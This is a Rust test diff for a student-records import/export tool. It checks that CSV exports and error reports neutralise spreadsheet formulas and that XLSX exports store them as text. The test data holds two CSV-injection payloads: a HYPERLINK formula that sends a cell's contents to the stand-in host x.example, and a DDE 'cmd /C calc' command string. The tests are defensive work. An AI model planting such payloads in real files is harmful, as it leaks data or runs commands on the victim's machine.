@@ -211,3 +211,90 @@ fn sheet_xml(path: &std::path::Path, member: &str) -> String {
         .unwrap();
     text
 }
+
+/// What an attacker would type as a name: Excel runs it as a formula when a
+/// CSV cell starts with `=` (OWASP: CSV injection).
+const FORMULA: &str = r#"=HYPERLINK("http://x.example/?"&A1,"y")"#;
+
+/// `text` as one CSV field.
+fn quoted(text: &str) -> String {
+    format!("\"{}\"", text.replace('"', "\"\""))
+}
+
+/// Every field of a CSV file (after its BOM).
+fn csv_fields(path: &std::path::Path) -> Vec<String> {
+    let text = std::fs::read_to_string(path).unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    reader
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect()
+}
+
+#[test]
+fn a_formula_like_name_is_neutralised_in_a_csv_export_and_stays_text_in_an_xlsx_export() {
+    let (mut store, dir) = loaded_store();
+    let students = students_csv().replace("张小明", &quoted(FORMULA));
+    import_clean(&mut store, &write(dir.path(), "学生.csv", &students));
+
+    let csv_path = dir.path().join("学生-导出.csv");
+    import_export::export(
+        &*store,
+        Entity::Students,
+        None,
+        Format::Csv,
+        &csv_path,
+        PersonalData::Clear,
+    )
+    .unwrap();
+    let fields = csv_fields(&csv_path);
+    assert!(fields.contains(&format!("'{FORMULA}")), "{fields:?}");
+    let risky = ['=', '+', '-', '@', '\t', '\r'];
+    assert!(
+        fields
+            .iter()
+            .all(|f| !f.starts_with(risky) || f.parse::<f64>().is_ok()),
+        "{fields:?}"
+    );
+
+    let xlsx_path = dir.path().join("学生-导出.xlsx");
+    import_export::export(
+        &*store,
+        Entity::Students,
+        None,
+        Format::Xlsx,
+        &xlsx_path,
+        PersonalData::Clear,
+    )
+    .unwrap();
+    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx_path).unwrap();
+    let range = book.worksheet_range("学生").unwrap();
+    assert!(
+        range.rows().any(|r| r.contains(&Data::String(FORMULA.into()))),
+        "the name is a string cell, as typed"
+    );
+    assert!(
+        !sheet_xml(&xlsx_path, "xl/worksheets/sheet1.xml").contains("<f>"),
+        "no formula cell"
+    );
+}
+
+#[test]
+fn a_formula_like_value_is_neutralised_in_the_csv_error_report() {
+    let (mut store, dir) = loaded_store();
+    let sex = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let students = students_csv().replacen(",男,", &format!(",{},", quoted(sex)), 1);
+    let outcome = import(&mut store, &write(dir.path(), "学生.csv", &students));
+    assert!(
+        outcome.errors.iter().any(|e| e.value == sex),
+        "{}",
+        errors(&outcome)
+    );
+    let report = dir.path().join("错误.csv");
+    import_export::write_errors(&outcome.errors, &report).unwrap();
+    let fields = csv_fields(&report);
+    assert!(fields.contains(&format!("'{sex}")), "{fields:?}");
+    assert!(!fields.iter().any(|f| f.starts_with('@')), "{fields:?}");
+}
